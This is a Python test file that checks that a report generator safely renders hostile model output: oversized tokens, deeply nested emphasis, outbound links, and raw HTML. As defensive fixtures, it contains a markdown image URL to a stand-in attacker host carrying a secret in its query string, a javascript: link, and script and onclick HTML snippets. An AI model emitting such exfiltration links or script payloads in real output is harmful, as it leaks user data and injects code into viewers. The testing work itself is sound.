"""Model output built to break reports: huge tokens, deep nesting, links out, raw HTML."""

from __future__ import annotations

import importlib.util
import re
from dataclasses import replace
from pathlib import Path

import markdown as python_markdown
import pytest
from pypdf import PdfReader

from orchestration.reports import ReportDependencyError, render_markdown, write_reports
from orchestration.reports.flowables import parse_markdown

from .sample import sample_result


def _pdf_text(path: str | Path) -> str:
    return re.sub(r"\s+", "", "".join(page.extract_text() for page in PdfReader(path).pages))


def test_a_5000_character_token_in_ids_and_names_lays_out(tmp_path: Path) -> None:
    token = "x" * 4990 + "TOKEN-END"
    base = sample_result()
    first = replace(base.agent_results[0], agent_id="agent-" + token, subtask_id=token, model="m-" + token)
    hostile = replace(base, task_id="run-" + token, agent_results=[first, *base.agent_results[1:]])
    documents = write_reports(hostile, ["markdown", "pdf"], tmp_path)
    assert [d.format for d in documents] == ["markdown", "pdf"]
    assert token in Path(documents[0].path).read_text(encoding="utf-8")
    assert "TOKEN-END" in _pdf_text(documents[1].path)  # wrapped in the summary, not lost
    agents = next(item for item in PdfReader(documents[1].path).outline if isinstance(item, list)
                  and any("agent-t2" in entry.title for entry in item))  # fmt: skip
    assert agents[0].title.startswith("agent-xxx")  # every section keeps its bookmark


def test_5000_stars_are_flattened_not_a_recursion_error(tmp_path: Path) -> None:
    stars = "*" * 2500 + "DEEP-MARKER" + "*" * 2500  # emphasis nested 1250 levels deep
    documents = write_reports(sample_result(big=stars), ["markdown", "pdf"], tmp_path)
    assert "DEEP-MARKER" in _pdf_text(documents[1].path)


LINKS = (
    "See ![chart](http://attacker.example/pixel.png?secret=42) and "
    "[click me](javascript:alert(1)) and ![inline](data:image/png;base64,AAAA) and "
    "[docs](https://docs.example/page).\n\n"
    "![ref image][r] and [ref link][r]\n\n"
    "[r]: http://attacker.example/ref.png\n\n"
    "Code keeps its syntax: `[a](http://b)`.\n"
)


def test_model_links_and_images_never_form_in_the_markdown_report() -> None:
    markdown = render_markdown(sample_result(big=LINKS))
    html = python_markdown.markdown(markdown, extensions=["tables"])  # a viewer, raw HTML allowed
    assert "<img" not in html
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert hrefs and all(href.startswith("#") for href in hrefs)  # only the report's own contents
    for text in ("chart", "click me", "inline", "docs", "ref image", "ref link"):
        assert text in html  # the text is kept
    assert "http://attacker.example/pixel.png" in html  # the target shows, inert
    assert "<code>[a](http://b)</code>" in html


def test_model_links_are_not_clickable_in_the_pdf(tmp_path: Path) -> None:
    path = write_reports(sample_result(big=LINKS), ["pdf"], tmp_path)[0].path
    annotations = [str(a.get_object()) for page in PdfReader(path).pages for a in page.get("/Annots") or []]
    assert not [a for a in annotations if "/URI" in a]  # internal links only (the contents)
    text = _pdf_text(path)
    assert "clickme" in text and "attacker.example/pixel.png" in text


def test_raw_html_is_text_and_lists_after_a_line_are_lists() -> None:
    tree = parse_markdown(
        '<div onclick="x()">hi</div>\n\n<b>bold</b> <script>alert(1)</script>\n\nSome text\n- one\n- two\n'
    )
    tags: set[str] = set()

    def walk(node: object) -> None:
        for child in getattr(node, "children", ()):
            if not isinstance(child, str):
                tags.add(child.tag)
                walk(child)

    walk(tree)
    assert tags == {"p", "ul", "li"}
    text = tree.text()
    assert '<div onclick="x()">hi</div>' in text and "<script>alert(1)</script>" in text


def test_a_missing_markdown_parser_says_what_to_install(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_find_spec = importlib.util.find_spec
    monkeypatch.setattr(
        importlib.util, "find_spec", lambda name, *a: None if name == "markdown" else real_find_spec(name, *a)
    )
    with pytest.raises(ReportDependencyError, match=r"pip install markdown$"):
        write_reports(sample_result(), ["pdf"], tmp_path)
